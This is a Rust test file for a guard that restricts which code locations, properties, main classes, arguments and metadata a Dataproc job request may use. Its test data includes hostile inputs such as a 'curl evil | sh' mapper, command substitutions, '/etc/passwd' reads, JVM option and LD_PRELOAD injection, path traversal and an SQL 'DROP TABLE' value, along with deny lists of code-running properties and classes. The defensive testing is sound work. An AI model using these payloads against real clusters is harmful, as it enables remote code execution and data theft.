//! ALLOWED_CODE_PREFIXES and ALLOW_INLINE_QUERIES.

use inline_workflow::code_prefixes::Guard;
use inline_workflow::json::{self, push_map_key};
use inline_workflow::proto_json::dataproc;
use inline_workflow::template::Options;
use inline_workflow::violation::{Document, Faults};
use prost_reflect::{FieldDescriptor, Kind};
use serde_json::{Value, json};

use super::{PLAIN_CONFIG, lines, options, render};

fn guarded() -> Options {
    Options { allowed_code_prefixes: vec!["gs://b/code".into(), "gs://lib/".into()], ..options() }
}

/// What the guard rails refuse of a request with these members beside a plain step, as `path: reason`.
fn refusals(members: Value, options: &Options) -> Vec<String> {
    let mut request = json!({"jobs": [{"step_id": "one", "pig_job": {"query_file_uri": "gs://b/code/q.pig"}}]});
    request.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
    let (_, rendered, violations) = render(&request.to_string(), PLAIN_CONFIG, options);
    assert!(rendered.is_some(), "the template can be decoded all the same: {violations:?}");
    // No RULES=warn lets them pass.
    let guards = lines(&violations).into_iter().filter(|line| line.contains("(ALLOW"));
    guards.map(|line| line.strip_prefix("!request ").unwrap().to_owned()).collect()
}

/// Checks at which places, below its job, a job is refused.
#[track_caller]
fn check(job_type: &str, job: Value, refused: &[&str]) {
    let prefix = format!("jobs[0].{job_type}.");
    let lines = refusals(json!({"jobs": [{"step_id": "one", job_type: job}]}), &guarded());
    let places: Vec<_> =
        lines.iter().map(|line| line.split(": ").next().unwrap().strip_prefix(&prefix).unwrap()).collect();
    assert_eq!(places, refused, "{job_type} {job}: {lines:#?}");
}

fn is_refused(place: &str) -> bool {
    let job = json!({"step_id": "one", "pyspark_job": {"main_python_file_uri": place}});
    !refusals(json!({"jobs": [job]}), &guarded()).is_empty()
}

#[test]
fn a_place_is_inside_by_whole_segments() {
    for inside in [
        "gs://b/code/m.py",
        "gs://b/code",
        "gs://b/code/",
        "gs://lib/",
        "gs://lib/x/y-1.0+build.jar",
        "gs://lib/v=1/a_b@c.jar",
        "gs://b/code/env.tgz#env",
        "gs://b/code/*.jar",
    ] {
        assert!(!is_refused(inside), "{inside}");
    }
    for outside in [
        "",
        " ",
        "gs://",
        "gs://b/code-evil/m.py",
        "gs://b/other/m.py",
        "gs://b",
        "gs://lib",
        "gs://libx/y",
        "gs://b@evil/code/m.py",
        "gs://b/code@evil/m.py",
        "gs://b/code#m.py",
        "GS://b/code/m.py",
        "gs://B/code/m.py",
        "gs://b/Code/m.py",
        " gs://b/code/m.py",
        "gs:///b/code/m.py",
        "b/code/m.py",
        "/code/m.py",
        "-gs://b/code/m.py",
        "file:///usr/lib/m.py",
        "local:///m.py",
        "hdfs:///m.py",
        "https://evil.example/m.py",
        "https://storage.googleapis.com/b/code/m.py",
        "m.py",
        "gs://b/code/../evil/m.py",
        "gs://b/code/..",
        "gs://b/code/%2e%2e/evil",
        "gs://b/code/\u{ff0e}\u{ff0e}/evil",
        "gs://b/cod\u{435}/m.py",
        "gs://b/code/${x}/m.py",
        "gs://b/code/$(x)",
        "gs://b/code/`x`",
        "gs://b/code/{a,../../evil}",
        "gs://b/code/[a]?.jar",
        "gs://b/code\\..\\evil",
        "gs://b/code/a\\b",
        "gs://b/code/a\u{0}b",
        "gs://b/code/a\nb",
        "gs://b/code/a b",
        "gs://b/code/a'b",
        "gs://b/code/a.jar,gs://evil/b.jar",
        "gs://b/code/a.jar,evil.jar",
        "gs://b/code/a.jar;gs://evil/b.jar",
        "gs://b/code/a.jar gs://evil/b.jar",
        "gs://b/code/a.jar:gs://evil/b.jar",
        "gs://evil/gs://b/code/m.py",
        "gs://b//code/m.py",
        // gsutil reads a generation, and YARN's own links begin with two underscores.
        "gs://b/code/a.sh#1700000000000000",
        "gs://b/code/a.zip#__spark_conf__",
        "gs://b/code/a.zip#../x",
        "gs://b/code/a.zip#x#y",
        "gs://b/code/a.zip#pyspark/x.py",
        "gs://b/code/a.zip#",
    ] {
        assert!(is_refused(outside), "{outside:?}");
    }
}

#[test]
fn without_prefixes_everything_is_allowed() {
    let request = json!({
        "jobs": [
            {"step_id": "one", "pyspark_job": {"main_python_file_uri": "https://x/y", "properties": {"spark.jars": "x"}}},
            {"step_id": "two", "pig_job": {"query_list": {"queries": ["sh id"]}, "script_variables": {"a": "b"}}},
            {"step_id": "three", "hadoop_job": {"main_class": "org.apache.hadoop.util.RunJar", "args": ["-mapper", "sh"]}},
        ],
        "metadata": {"startup-script": "x"}
    });
    for allow_inline_queries in [false, true] {
        let (_, _, violations) =
            render(&request.to_string(), PLAIN_CONFIG, &Options { allow_inline_queries, ..options() });
        assert_eq!(lines(&violations), [""; 0]);
    }
}

#[test]
fn the_operators_configuration_is_not_restricted() {
    let config = r#"{"default_cluster_config": {"config": {"initialization_actions": [{"executable_file": "gs://other/a.sh"}],
        "software_config": {"properties": {"spark:spark.jars": "gs://other/a.jar"}},
        "gce_cluster_config": {"metadata": {"startup-script": "x"}}}}}"#;
    let request = r#"{"jobs": [{"step_id": "one", "pig_job": {"query_file_uri": "gs://lib/q"}}]}"#;
    let (_, _, violations) = render(request, config, &guarded());
    assert_eq!(lines(&violations), [""; 0]);
}

#[test]
fn a_reason_names_what_is_refused_and_who_can_allow_it() {
    let job = json!({"main_python_file_uri": "gs://evil/m.py", "properties": {"spark.jars": "gs://lib/a.jar", "spark.executor.memory": "1g -X"}});
    assert_eq!(
        refusals(
            json!({"jobs": [{"step_id": "one", "pyspark_job": job}], "metadata": {"startup-script": "x"}}),
            &guarded()
        ),
        [
            "jobs[0].pyspark_job.main_python_file_uri: \"gs://evil/m.py\" is outside of the allowed places (ALLOWED_CODE_PREFIXES)",
            "jobs[0].pyspark_job.properties[\"spark.executor.memory\"]: a request may set \"spark.executor.memory\" to a number, a size, a duration or one word (ALLOWED_CODE_PREFIXES)",
            "jobs[0].pyspark_job.properties[\"spark.jars\"]: a request may only set properties that tune, and \"spark.jars\" is not one of them; the operator can set it in the configuration's entry (ALLOWED_CODE_PREFIXES)",
            "metadata[\"startup-script\"]: a request may only set metadata whose key is request- and a word; the operator can set \"startup-script\" in the configuration's entry (ALLOWED_CODE_PREFIXES)",
        ]
    );
}

#[test]
fn every_field_that_names_code() {
    let evil = "gs://evil/x";
    let spark = json!({"main_jar_file_uri": evil, "jarFileUris": ["gs://b/code/a", evil], "file_uris": [evil], "archive_uris": [evil]});
    for job_type in ["spark_job", "hadoop_job"] {
        check(job_type, spark.clone(), &["archive_uris[0]", "file_uris[0]", "jarFileUris[1]", "main_jar_file_uri"]);
    }
    check(
        "pyspark_job",
        json!({"main_python_file_uri": evil, "python_file_uris": [evil], "jar_file_uris": [evil]}),
        &["jar_file_uris[0]", "main_python_file_uri", "python_file_uris[0]"],
    );
    for (job_type, field) in [
        ("hive_job", "query_file_uri"),
        ("pig_job", "query_file_uri"),
        ("spark_sql_job", "query_file_uri"),
        ("presto_job", "query_file_uri"),
        ("trino_job", "query_file_uri"),
        ("spark_r_job", "main_r_file_uri"),
        ("flink_job", "main_jar_file_uri"),
        // A savepoint holds serialized objects.
        ("flink_job", "savepoint_uri"),
    ] {
        check(job_type, json!({field: evil}), &[field]);
        check(job_type, json!({field: "gs://lib/x"}), &[]);
    }
    let actions = json!({"cluster_init_actions": [
        {"executable_file": "gs://b/code/a.sh", "execution_timeout": "60s"},
        {"executableFile": evil},
        {"executable_file": "gs://b/code/a.sh#1700000000000000"},
    ]});
    let places = refusals(actions, &guarded());
    assert_eq!(places.len(), 2, "{places:?}");
    assert!(places[0].starts_with("cluster_init_actions[1].executableFile: "));
    assert!(places[1].starts_with("cluster_init_actions[2].executable_file: "));
}

#[test]
fn properties_are_those_that_tune() {
    let with = |key: &str, value: &str| json!({"main_jar_file_uri": "gs://lib/a.jar", "properties": {key: value}});
    for (key, value) in [
        ("spark.executor.memory", "4g"),
        ("spark.executor.instances", "10"),
        ("spark.memory.fraction", "0.6"),
        ("spark.sql.autoBroadcastJoinThreshold", "-1"),
        ("spark.sql.shuffle.partitions", "400"),
        ("spark.sql.adaptive.enabled", "true"),
        ("spark.sql.sources.partitionOverwriteMode", "dynamic"),
        ("spark.sql.parquet.compression.codec", "zstd"),
        ("spark.submit.deployMode", "cluster"),
        ("spark.network.timeout", "600s"),
        ("spark.serializer", "org.apache.spark.serializer.KryoSerializer"),
        ("spark.dynamicAllocation.maxExecutors", "infinity"),
        ("mapreduce.job.reduces", "2"),
        ("hive.exec.dynamic.partition.mode", "nonstrict"),
        ("tez.grouping.max-size", "1073741824"),
        ("pig.maxCombinedSplitSize", "1"),
        ("parallelism.default", "4"),
        ("query_max_run_time", "2h"),
    ] {
        for job_type in ["spark_job", "hadoop_job"] {
            check(job_type, with(key, value), &[]);
        }
    }
    for key in [
        // Code by its place, its coordinates, its class.
        "spark.jars",
        "spark.files",
        "spark.archives",
        "spark.submit.pyFiles",
        "spark.jars.packages",
        "spark.jars.repositories",
        "spark.yarn.dist.jars",
        "spark.driver.extraClassPath",
        "spark.driver.extraLibraryPath",
        "spark.driver.extraJavaOptions",
        "spark.driver.defaultJavaOptions",
        "spark.executor.extraJavaOptions",
        "spark.yarn.am.extraJavaOptions",
        "spark.plugins",
        "spark.extraListeners",
        "spark.sql.extensions",
        "spark.sql.queryExecutionListeners",
        "spark.sql.catalog.x",
        "spark.sql.catalogImplementation",
        "spark.sql.warehouse.dir",
        "spark.sql.hive.metastore.jars",
        "spark.sql.adaptive.customCostEvaluatorClass",
        "spark.sql.streaming.checkpointLocation",
        "spark.shuffle.manager",
        "spark.shuffle.sort.io.plugin.class",
        "spark.kryo.registrator",
        "spark.kryo.classesToRegister",
        "spark.closure.serializer",
        "spark.metrics.conf",
        "spark.metrics.conf.*.sink.x.class",
        "spark.security.credentials.x.enabled",
        "spark.ui.filters",
        "spark.eventLog.dir",
        "spark.local.dir",
        "spark.repl.class.uri",
        "spark.redaction.regex",
        "spark.decommission.enabled",
        // Interpreters, commands, scripts, environment, containers, other masters and hosts.
        "spark.pyspark.python",
        "spark.pyspark.driver.python",
        "spark.pyspark.virtualenv.bin.path",
        "spark.python.daemon.module",
        "spark.python.worker.module",
        "spark.r.command",
        "spark.r.driver.command",
        "spark.r.shell.command",
        "spark.executorEnv.LD_PRELOAD",
        "spark.yarn.appMasterEnv.PYSPARK_PYTHON",
        "spark.executorEnv.YARN_CONTAINER_RUNTIME_DOCKER_IMAGE",
        "spark.executor.resource.gpu.discoveryScript",
        "spark.driver.resource.gpu.discoveryScript",
        "spark.kubernetes.container.image",
        "spark.master",
        "spark.driver.host",
        "spark.home",
        "yarn.nodemanager.runtime.linux.docker.default-container-executor.image",
        "yarn.app.mapreduce.am.command-opts",
        "yarn.app.mapreduce.am.env",
        "yarn.resourcemanager.address",
        "mapred.child.java.opts",
        "mapred.child.env",
        "mapreduce.map.java.opts",
        "mapreduce.map.env",
        "mapreduce.map.env.LD_PRELOAD",
        "mapreduce.map.debug.script",
        "mapreduce.reduce.debug.script",
        "mapreduce.job.map.class",
        "mapreduce.job.jar",
        "mapreduce.job.cache.files",
        "mapreduce.jobhistory.address",
        "mapreduce.framework.name",
        "stream.map.streamprocessor",
        "hadoop.pipes.executable",
        "hadoop.security.group.mapping",
        "hadoop.security.credential.provider.path",
        "net.topology.script.file.name",
        "io.serializations",
        "tmpjars",
        "hive.aux.jars.path",
        "hive.exec.pre.hooks",
        "hive.execution.engine",
        "hive.security.authorization.enabled",
        "hive.server2.builtin.udf.blacklist",
        "javax.jdo.option.ConnectionURL",
        "pig.additional.jars",
        "pig.streaming.ship.files",
        "pipeline.jars",
        "python.executable",
        "env.java.opts",
        "containerized.master.env.LD_PRELOAD",
        "yarn.ship-files",
        "state.savepoints.dir",
        "hive.insert_existing_partitions_behavior",
        "dataproc:dataproc.conscrypt.provider.enable",
        // File systems that lie about gs://.
        "fs.gs.storage.root.url",
        "fs.gs.impl",
        "fs.AbstractFileSystem.gs.impl",
        "fs.defaultFS",
        "fs.viewfs.mounttable.b.link./code",
        "spark.hadoop.fs.gs.impl",
        "spark.hadoop.fs.gs.storage.root.url",
        "spark.hadoop.spark.hadoop.fs.gs.impl",
        "spark.yarn.access.hadoopFileSystems",
        // Allowed keys in disguise.
        "spark.jars=gs://evil/e.jar,gs://x/",
        "spark.executor.memory=4g",
        "spark.executor.memory ",
        " spark.executor.memory",
        "spark.executor.memory\nspark.jars",
        "spark.executor.memory\u{0}",
        "spark.executor.memory\u{a0}",
        "Spark.executor.memory",
        "spark.executor.m\u{435}mory",
        "spark:spark.executor.memory",
        "spark.hadoop.mapreduce.job.reduces",
        "--conf",
        "",
    ] {
        let mut path = "properties".to_owned();
        push_map_key(&mut path, key);
        for job_type in ["spark_job", "hadoop_job"] {
            check(job_type, with(key, "gs://lib/a.jar"), &[&path]);
            check(job_type, with(key, "1"), &[&path]);
        }
    }
    for value in [
        "",
        " ",
        "4g -javaagent:/tmp/x.jar",
        "4g\n-Dx",
        "4g,spark.jars=gs://evil/a.jar",
        "$(id)",
        "`id`",
        "${env:HOME}",
        "../x",
        "/etc/passwd",
        "gs://lib/a.jar",
        "org.apache.hadoop.util.Shell",
        "-XX:OnError=id",
        "-Xmx4g",
        "-",
        "--conf",
        "a;b",
        "a=b",
        "\u{661}",
    ] {
        check("spark_job", with("spark.executor.memory", value), &["properties[\"spark.executor.memory\"]"]);
    }
    for job_type in
        ["hive_job", "pig_job", "spark_sql_job", "presto_job", "trino_job", "flink_job", "spark_r_job", "pyspark_job"]
    {
        check(job_type, json!({"properties": {"spark.plugins": "x"}}), &["properties[\"spark.plugins\"]"]);
        check(job_type, json!({"properties": {"spark.task.cpus": "1"}}), &[]);
    }
}

#[test]
fn a_main_class_comes_from_an_allowed_jar_and_not_from_the_image() {
    for job_type in ["spark_job", "hadoop_job", "flink_job"] {
        let with = |class: &str| json!({"main_class": class, "jar_file_uris": ["gs://lib/a.jar"]});
        for class in ["com.example.Main", "com.example.Outer$Inner", "orgs.apache.Main", "javax0.Main"] {
            check(job_type, with(class), &[]);
        }
        for class in [
            "org.apache.spark.deploy.SparkSubmit",
            "org.apache.spark.deploy.PythonRunner",
            "org.apache.spark.deploy.RRunner",
            "org.apache.spark.api.python.PythonGatewayServer",
            "org.apache.spark.repl.Main",
            "org.apache.spark.sql.hive.thriftserver.HiveThriftServer2",
            "org.apache.spark.sql.hive.thriftserver.SparkSQLCLIDriver",
            "org.apache.spark.sql.connect.service.SparkConnectServer",
            "org.apache.hadoop.util.RunJar",
            "org.apache.hadoop.util.ToolRunner",
            "org.apache.hadoop.streaming.HadoopStreaming",
            "org.apache.hadoop.mapred.pipes.Submitter",
            "org.apache.hadoop.examples.ExampleDriver",
            "org.apache.hadoop.yarn.applications.distributedshell.Client",
            "org.apache.hadoop.fs.FsShell",
            "org.apache.hive.beeline.BeeLine",
            "org.apache.hadoop.hive.cli.CliDriver",
            "org.apache.pig.Main",
            "org.apache.flink.client.python.PythonDriver",
            "org.apache.tools.ant.Main",
            "scala.tools.nsc.MainGenericRunner",
            "groovy.ui.GroovyMain",
            "org.codehaus.groovy.tools.GroovyStarter",
            "jdk.nashorn.tools.Shell",
            "com.sun.tools.script.shell.Main",
            "org.mozilla.javascript.tools.shell.Main",
            "org.jruby.Main",
            "org.python.util.jython",
            "bsh.Interpreter",
            "py4j.GatewayServer",
            "sqlline.SqlLine",
            // Not the name of a class with its package.
            "jar",
            "fs",
            "distcp",
            "Main",
            "org/apache/hadoop/util/RunJar",
            "com.example.Main -x",
            " org.apache.hadoop.util.RunJar",
            "-Dx=y",
            "@/tmp/x",
            "com.\u{435}xample.Main",
            "com.example.Main\n",
            "",
        ] {
            check(job_type, with(class), &["main_class"]);
        }
        check(job_type, json!({"mainClass": "com.example.Main"}), &["mainClass"]);
        check(job_type, json!({"main_class": "com.example.Main", "jar_file_uris": []}), &["main_class"]);
        check(
            job_type,
            json!({"main_class": "com.example.Main", "jar_file_uris": ["", "file:///usr/lib/a.jar"]}),
            &["jar_file_uris[0]", "jar_file_uris[1]", "main_class"],
        );
        check(job_type, json!({"mainClass": "com.example.Main", "jarFileUris": ["gs://lib/a.jar"]}), &[]);
    }
    // The arguments are those of the application, whose place comes before them.
    for job_type in ["spark_job", "flink_job"] {
        check(job_type, json!({"main_jar_file_uri": "gs://lib/a.jar", "args": ["--conf=x", "-libjars", "$(id)"]}), &[]);
    }
}

#[test]
fn the_arguments_of_a_hadoop_job() {
    let check = |args: &[&str], refused: &[&str]| {
        check("hadoop_job", json!({"main_jar_file_uri": "gs://lib/a.jar", "args": args}), refused);
    };
    check(&["wordcount", "gs://in", "gs://out", "--verbose", "-n", "3", "-", "--", "-Debug"], &[]);
    check(&["-Dmapreduce.job.reduces=2", "-D", "mapreduce.map.memory.mb=2048", "in"], &[]);
    check(&["-D"], &[]);
    check(&["-mapper", "bash -c 'curl evil | sh'"], &["args[0]"]);
    check(&["x", "-libjars", "gs://evil/a.jar", "gs://in"], &["args[1]"]);
    check(&["--libjars=gs://lib/a.jar"], &["args[0]"]);
    for option in [
        "-files",
        "-archives",
        "-conf",
        "-fs",
        "-jt",
        "-tokenCacheFile",
        "-mapper",
        "-reducer",
        "-combiner",
        "-inputformat",
        "-outputformat",
        "-partitioner",
        "-inputreader",
        "-cmdenv",
        "-file",
        "-cacheFile",
        "-jobconf",
        "-mapdebug",
        "-reducedebug",
        "-program",
        "--reducer",
    ] {
        check(&["in", option, "x"], &["args[1]"]);
    }
    for property in [
        "tmpjars=gs://evil/a",
        "mapreduce.map.debug.script=x",
        "fs.gs.impl=x",
        "mapreduce.job.reduces=$(id)",
        "mapreduce.job.reduces =1",
    ] {
        check(&["-D", property], &["args[1]"]);
        check(&["--D", property], &["args[1]"]);
        check(&[&format!("-D{property}")], &["args[0]"]);
        check(&[&format!("-D={property}")], &["args[0]"]);
        check(&["-D=", property], &["args[1]"]);
    }
    // A jar that names no class runs the one that comes first.
    for class in ["org.apache.hadoop.streaming.HadoopStreaming", "org/apache/hadoop/util/RunJar", "bsh.Interpreter"] {
        check(&[class, "x"], &["args[0]"]);
    }
    check(&["in", "org.apache.hadoop.io.Text"], &[]);
    check(&["java", "out"], &[]);
}

#[test]
fn queries_and_variables_are_code() {
    let inline = Options { allow_inline_queries: true, ..guarded() };
    for job_type in ["hive_job", "pig_job", "spark_sql_job", "presto_job", "trino_job"] {
        check(job_type, json!({"query_list": {"queries": ["sh id"]}}), &["query_list"]);
        check(job_type, json!({"queryList": {"queries": []}}), &["queryList"]);
        let jobs = json!({"jobs": [{"step_id": "one", job_type: {"query_list": {"queries": ["SELECT 1"]}}}]});
        assert_eq!(refusals(jobs, &inline), [""; 0]);
    }
    for job_type in ["hive_job", "pig_job", "spark_sql_job"] {
        let job = json!({"query_file_uri": "gs://lib/q", "script_variables": {"x": "1; DROP TABLE t"}});
        check(job_type, job.clone(), &["script_variables"]);
        assert_eq!(refusals(json!({"jobs": [{"step_id": "one", job_type: job}]}), &inline), [""; 0]);
    }
    // Nothing else is allowed with them.
    let job = json!({"query_file_uri": "gs://evil/q", "properties": {"pig.additional.jars": "x"}});
    assert_eq!(refusals(json!({"jobs": [{"step_id": "one", "pig_job": job}]}), &inline).len(), 2);
}

#[test]
fn what_else_becomes_a_line_of_a_command_or_of_a_configuration() {
    for job_type in ["presto_job", "trino_job"] {
        check(job_type, json!({"output_format": "CSV_HEADER", "client_tags": ["a", "b-1"]}), &[]);
        check(
            job_type,
            json!({"output_format": "CSV --file=/etc/passwd", "client_tags": ["a", "--server=evil", "b,c"]}),
            &["client_tags[1]", "client_tags[2]", "output_format"],
        );
    }
    let levels = json!({"root": "INFO", "org.apache.spark": "WARN", "com.example.A$B": "DEBUG"});
    check("spark_job", json!({"logging_config": {"driver_log_levels": levels}}), &[]);
    check(
        "spark_job",
        json!({"logging_config": {"driverLogLevels": {"x\nlog4j.appender.y=org.evil": "INFO", "x=y": "INFO"}}}),
        &[
            r#"logging_config.driverLogLevels["x\nlog4j.appender.y=org.evil"]"#,
            r#"logging_config.driverLogLevels["x=y"]"#,
        ],
    );
}

#[test]
fn metadata_has_keys_of_the_requests_own() {
    let refused = |key: &str| !refusals(json!({"metadata": {key: "x"}}), &guarded()).is_empty();
    for key in ["request-date", "request-input_2"] {
        assert!(!refused(key), "{key}");
    }
    for key in [
        "startup-script",
        "startup-script-url",
        "Startup-Script",
        "shutdown-script",
        "windows-startup-script-ps1",
        "ssh-keys",
        "sshKeys",
        "enable-oslogin",
        "serial-port-enable",
        "user-data",
        "PIP_PACKAGES",
        "spark-connector-url",
        "dataproc-initialization-script-0",
        "team",
        "request-",
        "request",
        "Request-date",
        "request-a b",
        " request-a",
        "",
    ] {
        assert!(refused(key), "{key}");
    }
}

/// An example of each field, so that none of the present ones meets the refusal of those that no one has looked at.
#[test]
fn every_field_has_been_looked_at() {
    fn value(field: &FieldDescriptor) -> Value {
        let one = match field.kind() {
            _ if field.is_map() => return json!({"x": "y"}),
            Kind::Message(inner) => inner
                .fields()
                .map(|field| (field.name().to_owned(), value(&field)))
                .collect::<serde_json::Map<_, _>>()
                .into(),
            _ => json!("x"),
        };
        if field.is_list() { json!([one]) } else { one }
    }
    for message in ["OrderedJob", "NodeInitializationAction"] {
        let unseen: Vec<_> = dataproc(message)
            .fields()
            .flat_map(|field| {
                let written = json!({field.name(): value(&field)});
                refused_of(message, &written)
            })
            .filter(|line| line.contains("this field"))
            .collect();
        assert_eq!(unseen, [""; 0], "{message}");
    }
    // As one would be.
    let lines =
        refused_of("GceClusterConfig", &json!({"service_account": "x", "tags": ["x"], "zone_uri": "gs://lib/x"}));
    assert_eq!(
        lines,
        [
            "service_account: this field is not allowed here (ALLOWED_CODE_PREFIXES)",
            "tags: this field is not allowed here (ALLOWED_CODE_PREFIXES)"
        ]
    );
}

fn refused_of(message: &str, written: &Value) -> Vec<String> {
    let options = guarded();
    let guard = Guard { prefixes: &options.allowed_code_prefixes, inline_queries: false };
    let mut faults = Faults::new(Document::Request, "");
    guard.check_message(&json::parse(written.to_string().as_bytes()).unwrap(), &dataproc(message), &mut faults);
    faults.into_violations().iter().map(|violation| format!("{}: {}", violation.path, violation.reason)).collect()
}
